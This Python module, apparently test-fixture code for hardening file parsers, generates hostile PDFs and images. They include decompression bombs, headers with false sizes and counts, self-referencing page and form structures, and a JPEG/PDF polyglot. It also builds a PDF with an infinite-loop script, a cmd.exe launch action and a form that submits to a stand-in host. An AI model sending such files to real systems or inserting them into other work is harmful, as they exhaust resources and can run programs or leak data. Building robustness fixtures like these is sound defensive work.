"""Files that want to hurt, made in code and small on disk: bombs, loops, lies about sizes, two kinds at once."""

import io
import struct
import zlib

from PIL import Image


def pdf_of_objects(*objects, root=1, size=None, trailer=b""):
    """A PDF of raw objects, numbered from 1, without a table: the reader has to search for them."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (at, one) for at, one in enumerate(objects, 1))
    end = b"trailer << /Root %d 0 R /Size %d %s>>\n" % (root, size or len(objects) + 1, trailer)
    return b"%PDF-1.7\n" + body + end + b"startxref\n0\n%%EOF\n"


def stream(content, filters=b"/FlateDecode", more=b""):
    """A stream object of packed bytes."""
    return b"<< /Filter %s /Length %d %s >>\nstream\n" % (filters, len(content), more) + content + b"\nendstream"  # fmt: skip


CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
ONE_PAGE = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 90 90] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"


def page_with(contents, *more):
    """A PDF of one page with these contents."""
    return pdf_of_objects(CATALOGUE, ONE_PAGE, PAGE, contents, *more)


def flate_bomb(megabytes=100):
    """Contents packed twice: thousands of times as large when they are unpacked."""
    packed = zlib.compress(zlib.compress(b" " * (megabytes * 1_000_000), 9), 9)
    return page_with(stream(packed, b"[/FlateDecode /FlateDecode]"))


def picture_bomb():
    """A page with a picture that claims ten thousand million pixels."""
    packed = zlib.compress(bytes(50_000_000), 9)
    more = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    return page_with(stream(zlib.compress(b"90 0 0 90 0 0 cm /X Do")), stream(packed, more=more))


def table_bomb():
    """A table of objects in a packed stream that never ends."""
    packed = zlib.compress(bytes(50_000_000), 9)
    head = b"/Type /XRef /Size 50000000 /W [1 2 1] /Root 1 0 R"
    body = b"1 0 obj\n" + CATALOGUE + b"\nendobj\n"
    at = len(b"%PDF-1.7\n" + body)
    return b"%PDF-1.7\n" + body + b"3 0 obj\n" + stream(packed, more=head) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at  # fmt: skip


def pages_without_end(number=100_000):
    """A PDF that names one page a hundred thousand times."""
    kids = b"3 0 R " * number
    return pdf_of_objects(CATALOGUE, b"<< /Type /Pages /Count %d /Kids [%s] >>" % (number, kids), PAGE, stream(b""))  # fmt: skip


def many_large_pages(number=60, points=2500):
    """A PDF of sixty empty pages that are as large as one may be: small itself, ten gigabytes of pixels."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] >>" % (points, points)
    kids = b" ".join(b"%d 0 R" % at for at in range(3, 3 + number))
    return pdf_of_objects(
        CATALOGUE, b"<< /Type /Pages /Count %d /Kids [%s] >>" % (number, kids), *[page] * number
    )


def lying_count():
    """A PDF that says it has a thousand million pages."""
    return pdf_of_objects(CATALOGUE, b"<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>", PAGE, stream(b""))  # fmt: skip


def pages_in_a_circle():
    """A tree of pages that contains itself."""
    return pdf_of_objects(CATALOGUE, b"<< /Type /Pages /Count 9 /Kids [2 0 R 3 0 R 2 0 R] >>", b"<< /Type /Pages /Count 9 /Kids [2 0 R] >>")  # fmt: skip


def forms_in_a_circle():
    """A drawing that draws itself."""
    form = stream(b"/X Do /X Do", b"[]", b"/Type /XObject /Subtype /Form /BBox [0 0 90 90] /Resources << /XObject << /X 5 0 R >> >>")  # fmt: skip
    return page_with(stream(b"/X Do", b"[]"), form)


def lengths_in_a_circle():
    """A stream whose length is the stream itself."""
    return page_with(b"<< /Length 4 0 R >>\nstream\n0 0 m\nendstream")


def active_pdf():
    """Everything that wants to act: scripts, a launch, an address, an attachment, a form, XFA."""
    catalogue = b"""<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); while(1){}) >>
      /AA << /WC << /S /Launch /F (cmd.exe) >> >> /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>
      /AcroForm << /XFA 6 0 R /Fields [7 0 R] /NeedAppearances true >> >>"""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 90 90] /Contents 4 0 R /Annots [7 0 R] /AA << /O << /S /URI /URI (http://x.example/) >> >> >>"
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 80 20] /A << /S /JavaScript /JS (this.submitForm('http://x.example')) >> >>"
    file = b"<< /Type /Filespec /F (a) /EF << /F 4 0 R >> >>"
    return pdf_of_objects(catalogue, ONE_PAGE, page, stream(b"0 0 9 9 re f", b"[]"), file, stream(zlib.compress(b"<xdp/>")), field)  # fmt: skip


def endless_page():
    """A page larger than any paper."""
    return pdf_of_objects(CATALOGUE, ONE_PAGE, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e30 1e30] >>")  # fmt: skip


def saved(form, size=(40, 60), **options):
    """A small red picture."""
    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, form, **options)
    return buffer.getvalue()


def jpeg_that_lies():
    """A JPEG that claims 65,500 by 65,500 pixels."""
    content = saved("JPEG")
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">HH", 65500, 65500) + content[at + 4 :]


def png_bomb(side=20_000):
    """A PNG of four hundred million pixels in fifty kilobytes."""
    raw = zlib.compress(bytes((side // 8 + 1) * side), 9)

    def chunk(kind, data):
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    head = side.to_bytes(4) * 2 + bytes([1, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def png_with_packed_words():
    """A PNG with a comment that unpacks to sixty megabytes."""
    words = b"a\0\0" + zlib.compress(bytes(60_000_000), 9)
    chunk = len(words).to_bytes(4) + b"zTXt" + words + zlib.crc32(b"zTXt" + words).to_bytes(4)
    content = saved("PNG")
    return content[:33] + chunk + content[33:]


def tiff_that_lies():
    """A TIFF that claims a hundred thousand pixels each way in one packed strip."""
    packed = zlib.compress(bytes(20_000_000), 9)
    tags = [(256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1),
            (273, 4, 1, 200), (277, 3, 1, 1), (278, 4, 1, 100_000), (279, 4, 1, len(packed))]  # fmt: skip
    head = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags))
    body = b"".join(struct.pack("<HHII", *tag) for tag in tags) + bytes(4)
    return (head + body).ljust(200, b"\0") + packed


def tiff_in_a_circle():
    """A TIFF whose next page is the first one."""
    content = bytearray(saved("TIFF"))
    start = struct.unpack("<I", content[4:8])[0]
    rows = struct.unpack("<H", content[start : start + 2])[0]
    content[start + 2 + 12 * rows : start + 6 + 12 * rows] = struct.pack("<I", start)
    return bytes(content)


def heic_that_lies(content):
    """A photograph whose header claims sixty thousand pixels each way."""
    at = content.index(b"ispe") + 8
    return content[:at] + struct.pack(">II", 60_000, 60_000) + content[at + 8 :]


def picture_that_is_a_pdf_too():
    """A JPEG with a whole PDF in its comment: either program would open it."""
    content, inside = saved("JPEG"), page_with(stream(b"0 0 9 9 re f", b"[]"))
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(inside) + 2) + inside + content[2:]
